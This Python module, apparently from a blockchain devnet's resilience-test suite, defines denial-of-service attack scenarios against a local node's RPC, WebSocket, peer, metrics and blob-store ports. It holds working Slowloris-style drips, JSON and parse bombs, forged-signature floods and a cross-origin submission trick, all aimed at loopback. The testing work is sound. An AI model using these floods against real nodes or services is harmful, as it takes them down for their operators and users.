"""Attacks of clients on JSON-RPC, on idle sockets, and on a provider's blob store."""

from __future__ import annotations

import json
import os
import socket
import struct
from collections.abc import Awaitable, Callable, Mapping, Sequence
from functools import partial
from typing import Any

import trio

from devnet.launcher.layout import Devnet
from devnet.proofs.flood.attack import (
    SOURCE_ADDRESS,
    Attack,
    AttackAction,
    AttackScene,
    Door,
    ExtraProcess,
    each_dripping,
    each_socket,
    each_stream,
    victim_of,
)
from devnet.proofs.flood.clients import (
    LOOPBACK,
    READ_BYTES,
    BadAnswerError,
    WebSocket,
    WebSocketError,
    http_request,
    open_socket,
    request_head,
    rpc_batch,
    rpc_body,
    rpc_call,
)
from devnet.proofs.flood.intruder import cycle_through
from devnet.proofs.flood.peer_blocks import BATCH_COUNT, REMARKS_PER_BATCH, SIGNATURE_MARK, FloodSigner, with_client
from genesis import dev_accounts
from gpu_tasks.data.sealing import BLOB_BYTES_MAX
from node.rpc.jsonrpc import MAX_BATCH, MAX_DEPTH, MAX_REQUEST_MEBIBYTES, RequestLimits
from node.rpc.methods.state import KEYS_AT_ONCE, MAX_KEYS_PER_QUERY
from runtime.cryptography import ss58
from runtime.frame.weights import SIGNED_LENGTH_MAX_BYTES
from runtime.pallets.system import System
from runtime.pallets.utility import Utility
from runtime.state.trie_node import MAX_KEY_BYTES
from wallet.client import ChainClient
from wallet.suri import keypair_from_suri

JSON_HEADERS = {"Content-Type": "application/json"}
# A browser sends text/plain to a foreign origin without a preflight request (Fetch standard, CORS-safelisted).
FROM_A_PAGE = {"Content-Type": "text/plain", "Origin": "https://page.example"}
USER_SURI = "//Charlie"
AGAIN_SECONDS = 0.05
# More than the 1,024 files that a process may usually open.
CLIENT_CROWD = 1_200
PROVING_CLIENTS, CRUMBLING_CLIENTS = 300, 20
# A quarter of a node's WebSockets, the limit for one address.
SUBSCRIBERS_OF_ADDRESS = 25
ADDRESSES = tuple(f"127.0.0.{number}" for number in range(66, 70))
# More than the 100 that the RPC process accepts by default.
WEBSOCKETS = 150
# More than the 32 requests that the store serves at once.
SLOW_UPLOADS = 48
UPLOADERS = 8
HOST_LINE = b"Host: 127.0.0.1\r\n"
# Slowloris (2009): a request that never ends holds its connection and its worker.
HALF_HEAD = b"GET / HTTP/1.1\r\n" + HOST_LINE + b"X-Slow: "
HALF_METRICS = b"GET /metrics HTTP/1.1\r\n" + HOST_LINE + b"X-Slow: "
HALF_NEGOTIATION = b"\x13/multistream/1.0.0"
JSON_HEAD = b"POST / HTTP/1.1\r\n" + HOST_LINE + b"Content-Type: application/json\r\n"
# The same with a body (R-U-Dead-Yet): the announced length lets the reader wait.
HALF_POST = JSON_HEAD + b"Content-Length: 100000\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
# Each chunk costs a reader a whole step for one byte of content.
TINY_CHUNKS = b"1\r\na\r\n" * 10_000
HEIGHTS, CALL_COUNT = 1_000, 100
# The most blocks back for which the RPC process keeps states.
BACK_MOST = 256
SUBMIT_METHOD, SUBSCRIBE_HEADS = "author_submitExtrinsic", "chain_subscribeNewHeads"
FORGED, FORGED_CLIENTS = 4, 4
LONG_FUTURES, FUTURES_AT_ONCE = 400, 3
LONG_REMARK_BYTES = 60_000  # of each of two in an extrinsic
WATCHING_CLIENTS, WATCHED_SETS = 25, 20
PROOF_COUNT = 20
CLIENTS, SUBSCRIPTIONS, PER_BATCH = 40, 1_024, 128
SLOW_CLIENTS, REQUESTS_EACH = 60, 40
ABORTING_CLIENTS, PER_SECOND = 10, 5
ANSWERS, FIRST_BYTES = 20, 1_000
MAX_REQUEST_BYTES = MAX_REQUEST_MEBIBYTES * 1024 * 1024
# A search for the closing quote that began anew at each escaped one took half an hour.
ESCAPED_QUOTES = b'"' + b'\\"' * (MAX_REQUEST_BYTES // 2 - 1)
UNANSWERED = (OSError, trio.BrokenResourceError, trio.ClosedResourceError, BadAnswerError, WebSocketError)

PostBodies = Callable[[int], bytes]
"""A function from a request's number to its body."""
Prepare = Callable[[AttackScene], Awaitable[PostBodies]]


# --- clients that post, drip, crumble, and use WebSockets


def post_action(*request_bodies: bytes, client_count: int = 1) -> AttackAction:
    """Return an act: `clients` clients post these bodies in turn, each after its last answer."""

    async def prepare(_: AttackScene) -> PostBodies:
        return cycle_through(request_bodies)

    return prepared_post_action(prepare, client_count)


def prepared_post_action(
    prepare: Prepare, client_count: int = 1, headers: Mapping[str, str] = JSON_HEADERS
) -> AttackAction:
    """Return an act as `posts` does, for bodies with a preparation."""

    async def act(scene: AttackScene) -> None:
        body = await prepare(scene)
        await scene.begin()
        async with trio.open_nursery() as nursery:
            for client_number in range(client_count):
                nursery.start_soon(_post_repeatedly, scene, body, client_number, headers)

    return act


async def _post_repeatedly(
    scene: AttackScene, body: PostBodies, request_number: int, headers: Mapping[str, str]
) -> None:
    async for _ in scene.paced(1 / AGAIN_SECONDS, at_once=1):
        await _answered(scene, scene.victim.ports.rpc, "POST", "/", body(request_number), headers)
        request_number += 1


async def _answered(
    scene: AttackScene, port: int, method: str, path: str, body: bytes, headers: Mapping[str, str] | None = None
) -> None:
    """Send a request, and count its outcome."""
    scene.sent(1, len(body))
    try:
        answer = await http_request(port, method, path, body, SOURCE_ADDRESS, headers)
        scene.count_outcome(f"status {answer.status}")
    except UNANSWERED as error:
        scene.count_outcome(f"no answer: {type(error).__name__}")


def drip_action(port: str, client_count: int, opening: bytes) -> AttackAction:
    """Return an act: incomplete requests to one of the victim's ports, each continued by a byte a second."""
    return lambda scene: each_dripping(scene, getattr(scene.victim.ports, port), client_count, opening)


def crumb_action(port: str, request_head_bytes: bytes) -> AttackAction:
    """Return an act: bodies in chunks of one byte to one of the victim's ports."""

    async def serve(scene: AttackScene, stream: trio.SocketStream) -> None:
        await stream.send_all(request_head_bytes)
        while True:
            await stream.send_all(TINY_CHUNKS)
            scene.sent(1, len(TINY_CHUNKS))

    return lambda scene: each_stream(scene, getattr(scene.victim.ports, port), CRUMBLING_CLIENTS, serve)


def talk_action(
    client_count: int,
    *request_bodies: bytes,
    does_read: bool = True,
    source_addresses: Sequence[str] = (SOURCE_ADDRESS,),
) -> AttackAction:
    """Return an act: `clients` WebSockets from each address send these bodies, and read all answers or none."""

    async def serve(scene: AttackScene, web_socket: WebSocket) -> None:
        for body in request_bodies:
            await web_socket.send(body)
            scene.sent(1, len(body))
        while does_read:
            message = await web_socket.receive()
            scene.count_outcome("refused" if "error" in message else "answered")
        await trio.sleep_forever()

    return lambda scene: each_socket(scene, client_count, serve, source_addresses)


def batch_of_calls(method: str, calls: int, *params: Any) -> bytes:
    """Return a batch of `count` equal calls."""
    return rpc_batch([rpc_call(method, *params, number=request_number) for request_number in range(calls)])


async def _prove_again(scene: AttackScene) -> None:
    body = rpc_body("state_getReadProof", ["0x" + os.urandom(32).hex() for _ in range(KEYS_AT_ONCE)])
    # Written by hand and without `Connection: close`, so each connection asks again and again.
    request = JSON_HEAD + f"Content-Length: {len(body)}\r\n\r\n".encode() + body
    await each_stream(scene, scene.victim.ports.rpc, PROVING_CLIENTS, partial(_ask_again, request=request))


async def _ask_again(scene: AttackScene, stream: trio.SocketStream, request: bytes) -> None:
    while True:
        await stream.send_all(request)
        scene.sent(1, len(request))
        received = b""
        while not _is_whole(received):
            part = await stream.receive_some(READ_BYTES)
            if not part:
                return
            received += part
        scene.count_outcome("refused" if b'"error"' in received else "answered")


def _is_whole(answer: bytes) -> bool:
    answer_head, blank_line, answer_body = answer.lower().partition(b"\r\n\r\n")
    content_length = answer_head.partition(b"content-length: ")[2].partition(b"\r\n")[0]
    return bool(blank_line) and len(answer_body) >= int(content_length or b"0")


# The browser hides the answer from the page, but the harm is done once the call has run.
async def _was_submitted(devnet: Devnet) -> list[str]:
    """Return a problem if the node executed the call with a foreign origin: its signer's nonce then moved."""
    body = rpc_body("system_accountNextIndex", ss58.encode(keypair_from_suri(USER_SURI).account))
    answer = await http_request(victim_of(devnet).ports.rpc, "POST", "/", body, SOURCE_ADDRESS, JSON_HEADERS)
    nonce_moved = json.loads(answer.body)["result"]
    return (
        [f"a call with a foreign origin was executed: {nonce_moved} extrinsics of {USER_SURI} were taken"]
        if nonce_moved
        else []
    )


async def _from_a_page(scene: AttackScene) -> PostBodies:
    async def submission(client_number: ChainClient) -> bytes:
        extrinsic = await client_number.sign(System.remark(remark=b"from a page"), keypair_from_suri(USER_SURI))
        return rpc_body(SUBMIT_METHOD, "0x" + extrinsic.hex())

    return cycle_through([await with_client(scene.devnet, submission), *[batch_of_calls("state_getMetadata", 100)] * 3])


async def result_of(scene: AttackScene, method: str, *params: Any) -> Any:
    """Return the result of one call, or None if it was refused."""
    answer = await http_request(
        scene.victim.ports.rpc, "POST", "/", rpc_body(method, *params), SOURCE_ADDRESS, JSON_HEADERS
    )
    return json.loads(answer.body).get("result")


async def _final_height(scene: AttackScene) -> int:
    header = await result_of(scene, "chain_getHeader", await result_of(scene, "chain_getFinalizedHead"))
    return int(header["number"], 16)


async def _height_queries(scene: AttackScene) -> PostBodies:
    final_height = await _final_height(scene)
    return cycle_through(
        [
            batch_of_calls(
                "chain_getBlockHash", CALL_COUNT, [max(0, final_height - blocks_back) for blocks_back in range(HEIGHTS)]
            )
        ]
    )


async def _key_queries(scene: AttackScene) -> PostBodies:
    final_height, oldest_block, blocks_back = await _final_height(scene), None, BACK_MOST
    # The node keeps states for a limited number of blocks, so the oldest available one is searched.
    while blocks_back and oldest_block is None:
        blocks_back = blocks_back * 7 // 8
        candidate = await result_of(scene, "chain_getBlockHash", max(0, final_height - blocks_back))
        oldest_block = candidate if await result_of(scene, "state_getKeysPaged", "0x", 1, None, candidate) else None
    scene.count_outcome(f"{blocks_back} blocks back")
    return cycle_through([batch_of_calls("state_getKeysPaged", MAX_BATCH, "0x", 1_000, None, oldest_block)])


async def _proof_queries(scene: AttackScene) -> PostBodies:
    storage_keys = await result_of(scene, "state_getKeysPaged", "0x", MAX_KEYS_PER_QUERY, None)
    body = batch_of_calls("state_getReadProof", PROOF_COUNT, storage_keys)
    is_too_long = len(body) > RequestLimits().request_bytes  # the node would refuse it unread
    return cycle_through(
        [batch_of_calls("state_getReadProof", PROOF_COUNT // 4, storage_keys) if is_too_long else body]
    )


def nested_batch(scene: AttackScene) -> bytes:
    """Return an extrinsic of the longest signed length, a thousand batches, with `MARK` as its signature."""
    inner_batch = Utility.batch(calls=(System.remark(remark=b""),) * (2 * REMARKS_PER_BATCH))
    extrinsic = FloodSigner.of(scene).unsigned(
        Utility.batch(calls=(inner_batch,) * BATCH_COUNT), dev_accounts.stash("Alice")
    )
    assert len(extrinsic) <= SIGNED_LENGTH_MAX_BYTES
    return extrinsic


def forged_submissions(raw_of: Callable[[AttackScene], bytes], calls: int) -> Prepare:
    """Prepare batches of `count` submissions of an extrinsic, each with another random signature."""

    async def prepare(scene: AttackScene) -> PostBodies:
        bytes_before, _, bytes_after = raw_of(scene).partition(SIGNATURE_MARK)

        def body(_: int) -> bytes:
            extrinsics = [
                "0x" + (bytes_before + os.urandom(len(SIGNATURE_MARK)) + bytes_after).hex() for _ in range(calls)
            ]
            return rpc_batch(
                [
                    rpc_call(SUBMIT_METHOD, extrinsic, number=request_number)
                    for request_number, extrinsic in enumerate(extrinsics)
                ]
            )

        return body

    return prepare


# The shortest extrinsics give the most signatures to check for each byte that the attacker sends.
def _short_remark(scene: AttackScene) -> bytes:
    return FloodSigner.of(scene).unsigned(System.remark(remark=b""), dev_accounts.stash("Alice"))


async def _future_submissions(scene: AttackScene) -> PostBodies:
    signer, signing_key = FloodSigner.of(scene), keypair_from_suri("//Ferdie")
    nonce = await with_client(scene.devnet, lambda client_number: client_number.nonce(signing_key.account))
    long_call = Utility.batch(calls=(System.remark(remark=os.urandom(LONG_REMARK_BYTES)),) * 2)
    extrinsics = [
        "0x" + signer.signed(long_call, signing_key, nonce + 2 + nonces_ahead).hex()
        for nonces_ahead in range(LONG_FUTURES)
    ]
    group_starts = range(0, LONG_FUTURES, FUTURES_AT_ONCE)
    submission_groups = [
        list(enumerate(extrinsics[group_start : group_start + FUTURES_AT_ONCE])) for group_start in group_starts
    ]
    return cycle_through(
        [
            rpc_batch(
                [
                    rpc_call(SUBMIT_METHOD, extrinsic, number=request_number)
                    for request_number, extrinsic in submission_group
                ]
            )
            for submission_group in submission_groups
        ]
    )


# The fee depends on the weight of every nested call, so the node must walk all of them.
async def _nested_fee(scene: AttackScene) -> PostBodies:
    return cycle_through([rpc_body("payment_queryInfo", "0x" + nested_batch(scene).hex())])


async def _watch_keys(scene: AttackScene) -> None:
    # Watched keys are kept for each subscription, so their length counts as much as their number.
    longest_keys = [
        b"\xff" * (MAX_KEY_BYTES - 4) + request_number.to_bytes(4, "big")
        for request_number in range(MAX_KEYS_PER_QUERY)
    ]
    existing_keys = await result_of(scene, "state_getKeysPaged", "0x", MAX_KEYS_PER_QUERY, None)
    request_bodies = [
        rpc_body("state_subscribeStorage", ["0x" + longest_key.hex() for longest_key in longest_keys])
    ] * WATCHED_SETS
    await talk_action(WATCHING_CLIENTS, *request_bodies, rpc_body("state_subscribeStorage", existing_keys))(scene)


SUBSCRIBING = [
    rpc_batch([rpc_call(SUBSCRIBE_HEADS, number=start + offset) for offset in range(PER_BATCH)])
    for start in range(0, SUBSCRIPTIONS, PER_BATCH)
]


async def _abort_connections(scene: AttackScene) -> None:
    await scene.begin()
    async with trio.open_nursery() as nursery:
        for client_number in range(ABORTING_CLIENTS):
            nursery.start_soon(_abort_again_and_again, scene, client_number % 2 == 0)


async def _abort_again_and_again(scene: AttackScene, by_post: bool) -> None:
    body = batch_of_calls("state_getMetadata", ANSWERS)
    async for _ in scene.paced(PER_SECOND, at_once=1):
        try:
            stream = await (_send_by_post if by_post else _send_by_socket)(scene.victim.ports.rpc, body)
            scene.sent(1, len(body))
            await stream.receive_some(FIRST_BYTES)
            # A reset instead of a close makes the other end's writes fail.
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            await trio.aclose_forcefully(stream)
        except UNANSWERED as error:
            scene.count_outcome(f"refused: {error}")


async def _send_by_post(port: int, body: bytes) -> trio.SocketStream:
    stream = await trio.open_tcp_stream(LOOPBACK, port, local_address=SOURCE_ADDRESS)
    await stream.send_all(request_head("POST", "/", port, len(body), JSON_HEADERS) + body)
    return stream


async def _send_by_socket(port: int, body: bytes) -> trio.SocketStream:
    opened_socket = await open_socket(port, SOURCE_ADDRESS)
    await opened_socket.send(body)
    await opened_socket.ping()
    return opened_socket.stream


# The same text over a WebSocket, whose messages another part of the server reads.
async def _send_quotes(scene: AttackScene) -> None:
    await scene.begin()
    async for _ in scene.paced(2, at_once=1):
        try:
            web_socket = await open_socket(scene.victim.ports.rpc, SOURCE_ADDRESS)
            scene.sent(1, len(ESCAPED_QUOTES))
            await web_socket.send(ESCAPED_QUOTES)
            await web_socket.receive()
            await web_socket.aclose()
            scene.count_outcome("answered")
        except UNANSWERED as error:
            scene.count_outcome(f"no answer: {type(error).__name__}")


def _bomb_of(bomb_part: bytes) -> bytes:
    return b"[" + bomb_part * ((MAX_REQUEST_BYTES - 16) // len(bomb_part)) + b"0]"


_HEADERS = rpc_batch([rpc_call("ogpu_certifiedHeader", number, number=number) for number in range(MAX_BATCH)])
_DEEPEST = b"[" * (MAX_DEPTH - 1) + b"]" * (MAX_DEPTH - 1) + b","
# Long numbers cost quadratic time to convert (CVE-2020-10735), and deep brackets the stack.
_BOMBS = [_bomb_of(part) for part in (b'"",', b"9" * 4_000 + b",", _DEEPEST, b"{},")]


# Uploads hold a place in the store, so enough of them shut it for readers as well.
async def _upload_slowly(scene: AttackScene) -> None:
    port = scene.victim.ports.blobs
    await each_dripping(scene, port, SLOW_UPLOADS, request_head("PUT", "/blobs", port, BLOB_BYTES_MAX, {}))


# Strangers share a part of the store, so that a provider's own blobs always have room.
async def _fill_the_quota(scene: AttackScene) -> None:
    await scene.begin()
    async with trio.open_nursery() as nursery:
        for _ in range(UPLOADERS):
            nursery.start_soon(_store_repeatedly, scene)


async def _store_repeatedly(scene: AttackScene) -> None:
    async for _ in scene.paced(100, at_once=1):
        await _answered(scene, scene.victim.ports.blobs, "PUT", "/blobs", os.urandom(BLOB_BYTES_MAX))


ATTACKS = (
    Attack("silent_peers", "M4", "1,200 connections to the port for peers that never finish a handshake, back when "
           "they are closed.", drip_action("peers", CLIENT_CROWD, HALF_NEGOTIATION), 200_000, beside=(Door.PEERS,)),
    Attack("slow_posts", "M4", "1,200 POST requests to JSON-RPC that announce 100 kB and send a byte a second.",
           drip_action("rpc", CLIENT_CROWD, HALF_POST), 200_000, beside=(Door.WEBSOCKET,)),
    Attack("idle_websockets", "N9", "150 WebSockets from one address that say nothing: an honest client must still "
           "find a place.", talk_action(WEBSOCKETS), 50_000, beside=(Door.WEBSOCKET,)),
    Attack("half_heads", "own", "1,200 requests to JSON-RPC whose head never ends, a byte a second, back when they "
           "are closed.", drip_action("rpc", CLIENT_CROWD, HALF_HEAD), 200_000, beside=(Door.PROOFS, Door.WEBSOCKET),
           hogged=True),
    Attack("proving_crowd", "own", "300 connections of one address that each ask for a proof of 64 keys, and again "
           "when it has come.", _prove_again, 200_000, beside=(Door.PROOFS, Door.WEBSOCKET), hogged=True),
    Attack("crumbs", "own", "20 bodies to JSON-RPC in chunks of one byte, as fast as they go, back when they are "
           "closed.", crumb_action("rpc", JSON_HEAD + CHUNKED), 200_000, beside=(Door.PROOFS, Door.WEBSOCKET),
           hogged=True),
    Attack("subscribing_addresses", "own", "25 WebSockets from each of four addresses, with one subscription each: "
           "as many as a node takes.",
           talk_action(SUBSCRIBERS_OF_ADDRESS, rpc_body(SUBSCRIBE_HEADS), source_addresses=ADDRESSES),
           20_000, beside=(Door.PROOFS, Door.WEBSOCKET), hogged=True),
    Attack("crumbs_for_a_store", "own", "20 uploads to a provider's blob store in chunks of one byte, as fast as "
           "they go.",
           crumb_action("blobs", b"PUT /blobs HTTP/1.1\r\n" + HOST_LINE + CHUNKED),
           200_000, beside=(Door.BLOBS,), needs=ExtraProcess.PROVIDER, hogged=True),
    Attack("foreign_origin", "M1", "POST as a foreign page sends it, without a preflight: a submission, and batches "
           "of metadata. The server checked the origin after the calls: the page saw 403, and the calls had run.",
           prepared_post_action(_from_a_page, 4, FROM_A_PAGE), 5_000, aftermath=_was_submitted),
    Attack("batch_of_metadata", "A15", "Batches of 100 `state_getMetadata`, one after the other by three clients: "
           "answered without giving way.",
           post_action(batch_of_calls("state_getMetadata", CALL_COUNT), client_count=3), 2_000),
    Attack("batch_of_heights", "M7", "A hundred calls of `chain_getBlockHash` with the thousand newest heights each: "
           "half a megabyte of questions. For each height the chain of parents was walked down from the final block: "
           "15 s of the process.", prepared_post_action(_height_queries), 2_000),
    Attack("batch_of_keys", "M7", "500 calls of `state_getKeysPaged` at the oldest block whose state is remembered, "
           "under all that came later.", prepared_post_action(_key_queries), 2_000),
    Attack("forged_submissions", "E1", "Four clients hand in the longest extrinsics under a rich account's name, "
           "four a batch, with random signatures. The pool measured the time of peers, and not that of RPC clients.",
           prepared_post_action(forged_submissions(nested_batch, FORGED), FORGED_CLIENTS), 2_000),
    Attack("small_forged_submissions", "E1", "The same with 500 of the shortest in each batch: a signature to check "
           "for every 150 bytes.",
           prepared_post_action(forged_submissions(_short_remark, MAX_BATCH), FORGED_CLIENTS), 2_000),
    Attack("long_futures", "E2", "Extrinsics of 100 kB and more with good signatures of an account that can pay, "
           "each nonce ahead of its time.", prepared_post_action(_future_submissions, 2), LONG_FUTURES),
    Attack("watched_keys", "E3", "25 clients that subscribe to a thousand of the longest keys, twenty times each, "
           "and to a thousand that exist.", _watch_keys, 50_000),
    Attack("proofs_at_the_limit", "E4", "Batches of twenty `state_getReadProof` with a thousand keys each, by two "
           "clients.", prepared_post_action(_proof_queries, 2), 2_000),
    Attack("certified_headers", "E4", "Batches of 500 `ogpu_certifiedHeader`, each of a height of its own: a header "
           "and a certificate from the disk.", post_action(_HEADERS, client_count=3), 2_000),
    Attack("nested_fees", "E5", "Two clients ask again and again for the fee of an extrinsic of 117 kB with a "
           "thousand nested batches.", prepared_post_action(_nested_fee, 2), 2_000),
    Attack("many_subscriptions", "N3", "40 clients with 1,024 subscriptions each, in batches, that read all that "
           "comes: nothing bounded them together.", talk_action(CLIENTS, *SUBSCRIBING), 20_000),
    Attack("unread_subscriptions", "N4", "The same clients, but none reads: each dropped item was a line in the "
           "node's log, 30,000 a second.", talk_action(CLIENTS, *SUBSCRIBING, does_read=False), 20_000),
    Attack("slow_readers", "N3b", "60 clients with 40 requests for metadata each, never read: what waits for one "
           "client was bounded, for all not.",
           talk_action(SLOW_CLIENTS, *[rpc_body("state_getMetadata")] * REQUESTS_EACH, does_read=False), 50_000),
    Attack("aborting_clients", "A16", "Ten clients ask for megabytes of metadata, by POST and by WebSocket, and "
           "reset the connection at the first byte. Each left a stack trace in the log.", _abort_connections, 50_000),
    Attack("json_bombs", "M7", "1 MB of empty strings, of numbers of 4,000 digits, of brackets to the permitted "
           "depth, of short objects.", post_action(*_BOMBS, client_count=4), 5_000),
    Attack("parse_bomb", "C3", "1 MB of escaped quotes that no quote ends: a search that began anew at each of them "
           "took half an hour.", post_action(ESCAPED_QUOTES, client_count=4), 2_000),
    Attack("parse_bomb_by_websocket", "C3", "The same as a WebSocket message.", _send_quotes, 2_000),
    Attack("slow_uploads", "M5", "48 uploads that send a byte a second, back when they are closed: 34 shut the store "
           "for reads as well.", _upload_slowly, 50_000, beside=(Door.BLOBS,), needs=ExtraProcess.PROVIDER),
    Attack("full_quota", "M5", "Eight clients store the largest blobs as fast as they are taken, until the quota for "
           "strangers is used up.", _fill_the_quota, 3_000, beside=(Door.BLOBS,), needs=ExtraProcess.PROVIDER),
    Attack("half_metrics_requests", "M4", "1,200 half requests to the metrics port, a byte a second: each took a "
           "thread and a file of the node for ever. With 1,024 files the node could not write its sign-state, and "
           "died.", drip_action("metrics", CLIENT_CROWD, HALF_METRICS), 200_000, beside=(Door.METRICS,)),
)  # fmt: skip
